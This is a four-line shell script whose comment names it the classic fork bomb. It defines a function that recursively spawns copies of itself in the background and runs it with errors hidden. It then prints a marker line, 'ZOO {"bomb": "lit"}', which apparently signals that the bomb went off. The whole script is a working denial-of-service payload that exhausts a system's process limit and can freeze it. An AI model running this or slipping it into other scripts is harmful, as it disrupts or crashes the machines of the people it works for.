# The classic fork bomb, left behind in the background: nothing stops it but the limit on processes.
bomb() { bomb | bomb & }
bomb 2>/dev/null
echo 'ZOO {"bomb": "lit"}'
